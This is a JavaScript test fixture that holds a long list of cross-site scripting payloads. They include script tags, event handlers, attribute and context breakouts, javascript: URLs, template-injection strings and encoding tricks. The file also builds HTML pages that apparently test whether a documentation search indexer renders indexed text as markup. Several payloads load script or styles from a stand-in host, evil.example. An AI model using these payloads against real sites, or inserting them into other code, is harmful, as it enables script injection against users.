// What people put into texts so that a page which takes them for markup runs them, in the classic shapes. Each would
// set window.pwned or open a dialog.

const RUN = "window.pwned=1";
const LONG = "A".repeat(2000);

export const PAYLOADS = [
    // Elements that run by themselves
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<script/x>${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script src=data:text/javascript,${RUN}></script>`,
    `<script src=//evil.example/x.js></script>`,
    `<script type=module>${RUN}</script>`,
    `<<script>${RUN}//<</script>`,
    `<script\n>${RUN}</script\n>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<base href="//evil.example/">`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
    // Handlers of events
    `<img src=x onerror=${RUN}>`,
    `<IMG SRC=x OnErRoR=${RUN}>`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x onerror="${RUN}"//`,
    `<img src=x:x onerror\x0b=${RUN}>`,
    `<body onload=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<details open ontoggle=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<marquee onstart=${RUN}>`,
    `<select autofocus onfocus=${RUN}>`,
    `<div onpointerover=${RUN} style=position:fixed;inset:0>x</div>`,
    `<style onload=${RUN}></style>`,
    `<x tabindex=1 autofocus onfocus=${RUN}>`,
    `<form><button formaction="javascript:${RUN}">x</button></form>`,
    // Out of attributes
    `"><script>${RUN}</script>`,
    `'><script>${RUN}</script>`,
    `" onmouseover="${RUN}" x="`,
    `' onmouseover='${RUN}' x='`,
    `" autofocus onfocus="${RUN}`,
    `"'><img src=x onerror=${RUN}>'"`,
    `\`><img src=x onerror=${RUN}>`,
    `x" style="background:url(javascript:${RUN})`,
    `&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#34;&#62;<svg/onload=${RUN}>`,
    // Out of what holds text
    `</title><script>${RUN}</script>`,
    `</textarea><script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `</style><script>${RUN}</script>`,
    `</noscript><script>${RUN}</script>`,
    `</em></p></a></li></ul><script>${RUN}</script>`,
    `--><script>${RUN}</script>`,
    `<!--<script>${RUN}</script>`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<template><script>${RUN}</script></template>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<plaintext>`,
    // SVG and MathML
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x"></svg>`,
    `<math href="javascript:${RUN}">x</math>`,
    // Addresses
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `javascript://%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `vbscript:msgbox(1)`,
    `//evil.example/`,
    `<a href="javascript:${RUN}">x</a>`,
    `[x](javascript:${RUN})`,
    // Templates, ours and others'
    `{{title}}<!--card-->{{constructor.constructor('${RUN}')()}}`,
    `<!--hit-->{{url}}<!--/hit--><!--snippet--><script>${RUN}</script><!--/snippet-->`,
    `\${${RUN}}#{${RUN}}<%= ${RUN} %>`,
    `<em><script>${RUN}</script></em>`,
    `&lt;em&gt;<em onmouseover=${RUN}>x</em>`,
    // Style
    `<style>*{background:url(//evil.example/)}</style>`,
    `<p style="background:url(//evil.example/)">x</p>`,
    `x;}body{background:url(//evil.example/)}`,
    // Names that scripts have for something else, and selectors
    `__proto__`,
    `constructor`,
    `x"] , * [onload`,
    // Characters
    `\u202e<script>${RUN}</script>\u202c`,
    `\u2066"><img src=x onerror=${RUN}>\u2069`,
    `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
    `\u2028<script>${RUN}</script>\u2029`,
    `\ufeff<script>${RUN}</script>`,
    `<scr\u00adipt>${RUN}</scr\u00adipt>`,
    `${LONG}"><script>${RUN}</script>`,
    `<a title="${LONG}" onmouseover=${RUN}>`,
];

// The same with bytes that are not UTF-8, which could take the quote or bracket behind them along; percent-encoded.
export const BROKEN = [
    "%C0%BCscript%C0%BEwindow.pwned=1%C0%BC/script%C0%BE",
    "%E0%80%BCscript%E0%80%BEwindow.pwned=1",
    "%FF%FE%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "%C3%22%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "%F0%9F%22%3E%3Cimg%20src=x%20onerror=window.pwned=1%3E",
    "%22%E2%80%20onmouseover=%22window.pwned=1",
    "%ED%A0%80%3Csvg%20onload=window.pwned=1%3E",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "%1B$B%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "a%00%3Cscript%3Ewindow.pwned=1%3C/script%3E",
];

const escaped = (text) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

// A word that only the page of the payload with that number has.
export const wordOf = (number) => `zqpayload${number}`;

// A page with the payload in everything that the indexer reads, as text that looks like markup.
export function hostilePage(payload, number) {
    const text = escaped(payload), word = wordOf(number);
    return `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<meta name="generator" content="Docutils 0.19: https://docutils.sourceforge.io/"><title>${text}</title></head>
<body><div class="document"><div class="documentwrapper"><div class="body" role="main">
<section id="top-${text}"><h1>${text} ${word}</h1><p>${text} ${word} and ${text}</p>
<section id="${text}"><h2>${word} ${text}</h2><p>The ${word} again: ${text}</p><pre>${word} ${text}</pre>
<dl class="py function"><dt class="sig sig-object py" id="name-${text}"><span class="sig-prename descclassname">m.</span
><span class="sig-name descname">${word}_${text}</span>(<em class="sig-param">${text}</em>)</dt>
<dd><p>Does ${word}.</p><div class="deprecated"><p><span class="versionmodified deprecated">Deprecated since version
${text}: </span></p></div></dd></dl></section>
</section></div></div></div></body></html>`;
}

// A page with the payload as markup.
export function markupPage(payload, number) {
    return `<!DOCTYPE html><title>Markup</title><h1>Markup</h1><p>${wordOf(number)} ${payload} ${wordOf(number)}</p>`;
}
